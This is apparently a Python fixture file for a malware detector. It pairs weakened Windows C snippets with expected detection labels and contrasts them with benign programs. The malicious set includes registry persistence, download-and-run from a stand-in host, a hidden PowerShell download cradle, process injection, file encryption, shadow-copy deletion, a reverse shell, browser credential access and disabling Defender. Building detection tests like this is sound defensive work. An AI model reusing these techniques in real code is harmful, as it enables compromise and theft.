"""Windows programs for the virtual machine: compiled, harmless outside of it.

They touch nothing but the fake user's folders and registry, and addresses of documentation.
"""

from __future__ import annotations

from tools.corpus.detections.case import Case
from tools.corpus.detections.compiled import program

_RUN = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_START = "STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;"
_URL = "http://files.example/update.exe"

MICROVM_BAD: tuple[Case, ...] = (
    program(
        "autostart",
        64,
        rf"""HKEY k; CopyFileA(me, place(a, "%APPDATA%\\winsvc.exe"), FALSE);
        RegCreateKeyExA(HKEY_CURRENT_USER, "{_RUN}", 0, 0, 0, KEY_WRITE, 0, &k, 0);
        RegSetValueExA(k, "winsvc", 0, REG_SZ, SZ(a)); RegCloseKey(k);""",
        "registry-autostart",
    ),
    program(
        "autostart-wide",
        32,
        r"""HKEY k; DWORD n; wchar_t p[MAX_PATH]; GetModuleFileNameW(NULL, p, MAX_PATH);
        RegOpenKeyExW(HKEY_CURRENT_USER, L"Software\\Microsoft\\Windows\\CurrentVersion", 0,
            KEY_ALL_ACCESS, &k);
        HKEY r; RegCreateKeyExW(k, L"Run", 0, 0, 0, KEY_ALL_ACCESS, 0, &r, &n);
        RegSetValueExW(r, L"helper", 0, REG_SZ, (BYTE *)p, 2 * wcslen(p) + 2);""",
        "registry-autostart",
    ),
    program(
        "downloader",
        64,
        rf"""{_START} place(a, "%TEMP%\\update.exe");
        URLDownloadToFileA(NULL, "{_URL}", a, 0, NULL);
        CreateProcessA(a, NULL, 0, 0, 0, 0, 0, 0, &si, &pi);""",
        "windows-download-and-run",
    ),
    program(
        "downloader-wininet",
        32,
        rf"""{_START} char d[4096]; DWORD n = 0; FILE *f;
        HINTERNET i = InternetOpenA("Mozilla/4.0", 0, 0, 0, 0);
        HINTERNET u = InternetOpenUrlA(i, "{_URL}", 0, 0, 0, 0);
        InternetReadFile(u, d, sizeof d, &n);
        f = fopen(place(a, "%TEMP%\\update.exe"), "wb"); fwrite(d, 1, n, f); fclose(f);
        CreateProcessA(0, a, 0, 0, 0, 0, 0, 0, &si, &pi);""",
        "windows-download-and-run",
    ),
    program(
        "injector",
        64,
        rf"""{_START} char code[64] = {{0xC3}};
        CreateProcessA("C:\\windows\\system32\\notepad.exe", 0, 0, 0, 0, CREATE_SUSPENDED, 0, 0,
            &si, &pi);
        void *p = VirtualAllocEx(pi.hProcess, 0, 4096, MEM_COMMIT | MEM_RESERVE, 0x40);
        WriteProcessMemory(pi.hProcess, p, code, sizeof code, 0);
        CreateRemoteThread(pi.hProcess, 0, 0, p, 0, 0, 0); TerminateProcess(pi.hProcess, 0);""",
        "writes-foreign-memory",
    ),
    program(
        "encryptor",
        32,
        r"""WIN32_FIND_DATAA d; place(a, "%USERPROFILE%\\Documents\\");
        sprintf(b, "%s*", a); HANDLE h = FindFirstFileA(b, &d);
        do { char p[600], q[600]; if (d.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) continue;
          sprintf(p, "%s%s", a, d.cFileName); FILE *f = fopen(p, "r+b"); if (!f) continue;
          for (int i = 0; i < 256; i++) { int c = fgetc(f); fseek(f, -1, SEEK_CUR);
            fputc(c ^ 0x5A, f); fseek(f, 0, SEEK_CUR); }
          fclose(f); sprintf(q, "%s.locked", p); MoveFileA(p, q);
        } while (FindNextFileA(h, &d));""",
        "rewrites-windows-documents",
    ),
    program(
        "shadow-copies",
        64,
        r"""system("vssadmin.exe delete shadows /all /quiet");
        system("bcdedit /set {default} recoveryenabled no");""",
        "deletes-shadow-copies",
    ),
    program(
        "startup-folder",
        32,
        r"""CopyFileA(me, place(a,
          "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.exe"), FALSE);""",
        "startup-folder",
    ),
    program(
        "hidden-powershell",
        64,
        rf"""{_START} CreateProcessA(0, "powershell.exe -w hidden -nop -c "
        "\"IEX (New-Object Net.WebClient).DownloadString('http://files.example/a.ps1')\"",
        0, 0, 0, 0, 0, 0, &si, &pi);""",
        "powershell-downloads",
    ),
    program(
        "back-door",
        64,
        rf"""{_START} WSADATA w; WSAStartup(0x202, &w);
        SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, 0, 0, 0, 0); struct sockaddr_in to = {{0}};
        to.sin_family = AF_INET; to.sin_port = htons(4444);
        to.sin_addr.s_addr = inet_addr("203.0.113.77");
        connect(s, (struct sockaddr *)&to, sizeof to);
        si.dwFlags = STARTF_USESTDHANDLES; si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;
        CreateProcessA(0, "cmd.exe", 0, 0, TRUE, 0, 0, 0, &si, &pi);
        Sleep(200); TerminateProcess(pi.hProcess, 0);""",
        "connects-to-odd-port",
    ),
    program(
        "password-thief",
        32,
        r"""FILE *f = fopen(place(a,
        "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data"), "rb");
        if (f) fclose(f);
        f = fopen(place(a, "%APPDATA%\\Mozilla\\Firefox\\Profiles\\logins.json"), "rb");
        if (f) fclose(f);""",
        "reads-secrets-of-windows",
    ),
    program(
        "schedules",
        32,
        r"""CopyFileA(me, place(a, "%LOCALAPPDATA%\\Temp\\sync.exe"), FALSE);
        sprintf(b, "schtasks /create /sc minute /mo 5 /tn Sync /tr %s", a); WinExec(b, SW_HIDE);""",
        "scheduled-suspect-task",
    ),
    program(
        "decoder",
        64,
        r"""unsigned char hidden[] = "\x2c\x29\x29\x3b\x3e\x37\x33\x34\x7a\x3e\x3f\x36\x3f\x2e\x3f\x7a"
        "\x29\x32\x3b\x3e\x35\x2d\x29\x7a\x75\x3b\x36\x36";
        for (int i = 0; hidden[i]; i++) hidden[i] ^= 0x5A;
        STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;
        sprintf(a, "cmd.exe /c %s", hidden); CreateProcessA(0, a, 0, 0, 0, 0, 0, 0, &si, &pi);""",
        "deletes-shadow-copies",
    ),
    program(
        "defender-off",
        32,
        r"""HKEY k; DWORD one = 1; RegCreateKeyExA(HKEY_LOCAL_MACHINE,
        "SOFTWARE\\Policies\\Microsoft\\Windows Defender", 0, 0, 0, KEY_ALL_ACCESS, 0, &k, 0);
        RegSetValueExA(k, "DisableAntiSpyware", 0, REG_DWORD, (BYTE *)&one, 4);""",
        "disables-windows-defences-by-registry",
    ),
)

MICROVM_HONEST: tuple[Case, ...] = (
    program("hello", 64, r"""puts("hello");"""),
    program("hello-32", 32, r"""printf("%d arguments\n", argc);"""),
    program(
        "primes",
        64,
        r"""int n = 0; for (int i = 2; i < 9999; i++) { int p = 1;
        for (int j = 2; j * j <= i; j++) if (i % j == 0) p = 0; n += p; } printf("%d\n", n);""",
    ),
    program("fails", 64, r"""fputs("no input\n", stderr); return 2;"""),
    program(
        "notes",
        32,
        r"""FILE *f = fopen(place(a, "%USERPROFILE%\\Documents\\log.txt"), "w");
        fprintf(f, "started\n"); fclose(f);""",
    ),
    program(
        "settings",
        64,
        r"""HKEY k; DWORD w = 800; RegCreateKeyExA(HKEY_CURRENT_USER,
        "Software\\Example\\Viewer", 0, 0, 0, KEY_ALL_ACCESS, 0, &k, 0);
        RegSetValueExA(k, "Width", 0, REG_DWORD, (BYTE *)&w, 4); RegCloseKey(k);""",
    ),
    program(
        "reads-settings",
        32,
        r"""HKEY k; char v[99]; DWORD n = 99;
        if (!RegOpenKeyExA(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion", 0,
            KEY_READ, &k)) { RegQueryValueExA(k, "ProgramFilesDir", 0, 0, (BYTE *)v, &n); puts(v); }
        """,
    ),
    program(
        "installer",
        64,
        r"""HKEY k; CreateDirectoryA("C:\\Program Files\\Viewer", NULL);
        CopyFileA(me, "C:\\Program Files\\Viewer\\viewer.exe", FALSE);
        RegCreateKeyExA(HKEY_LOCAL_MACHINE,
          "Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Viewer", 0, 0, 0,
          KEY_ALL_ACCESS, 0, &k, 0);
        RegSetValueExA(k, "DisplayName", 0, REG_SZ, SZ("Viewer"));""",
    ),
    program(
        "backup",
        32,
        r"""CreateDirectoryA(place(a, "%USERPROFILE%\\Backup"), NULL);
        CopyFileA(place(a, "%USERPROFILE%\\Documents\\todo.txt"),
                  place(b, "%USERPROFILE%\\Backup\\todo.txt"), FALSE);""",
    ),
    program(
        "lists-files",
        64,
        r"""WIN32_FIND_DATAA d;
        HANDLE h = FindFirstFileA(place(a, "%USERPROFILE%\\Documents\\*"), &d);
        do puts(d.cFileName); while (FindNextFileA(h, &d));""",
    ),
    program("message", 64, r"""MessageBoxA(0, "Everything is done.", "Viewer", MB_OK);"""),
    program(
        "threads",
        32,
        r"""HANDLE h[4]; for (int i = 0; i < 4; i++)
        h[i] = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)Sleep, (void *)20, 0, 0);
        WaitForMultipleObjects(4, h, TRUE, 5000); puts("done");""",
    ),
    program(
        "heap",
        64,
        r"""char **p = calloc(500, sizeof *p);
        for (int i = 0; i < 500; i++) { p[i] = malloc(4000); memset(p[i], i, 4000); }
        for (int i = 0; i < 500; i++) free(p[i]); free(p); puts("freed");""",
    ),
    program(
        "time", 32, r"""SYSTEMTIME t; GetLocalTime(&t); printf("%u-%u\n", t.wYear, t.wMonth);"""
    ),
    program(
        "computer",
        64,
        r"""char n[99]; DWORD s = 99; GetComputerNameA(n, &s);
        SYSTEM_INFO i; GetSystemInfo(&i); printf("%s %lu\n", n, i.dwNumberOfProcessors);""",
    ),
    program(
        "checks-update",
        64,
        r"""char d[99]; DWORD n = 0;
        HINTERNET i = InternetOpenA("Viewer/1.0", 0, 0, 0, 0);
        HINTERNET u = InternetOpenUrlA(i, "http://www.viewer.example/version.txt", 0, 0, 0, 0);
        if (u && InternetReadFile(u, d, 98, &n)) printf("%lu bytes\n", n);""",
    ),
    program(
        "temporary",
        32,
        r"""char f[MAX_PATH]; GetTempPathA(MAX_PATH, a);
        GetTempFileNameA(a, "vw", 0, f); FILE *o = fopen(f, "w"); fputs("x", o); fclose(o);
        DeleteFileA(f);""",
    ),
    program(
        "sorts",
        64,
        r"""int v[2000]; srand(1); for (int i = 0; i < 2000; i++) v[i] = rand();
        int cmp(const void *x, const void *y) { return *(int *)x - *(int *)y; }
        qsort(v, 2000, sizeof *v, cmp); printf("%d\n", v[0]);""",
    ),
    program(
        "library",
        32,
        r"""HMODULE m = LoadLibraryA("version.dll");
        printf("%d\n", GetProcAddress(m, "GetFileVersionInfoA") != 0); FreeLibrary(m);""",
    ),
    program("build-step", 64, r"""system("cmd /c echo compiled > build.log");"""),
)
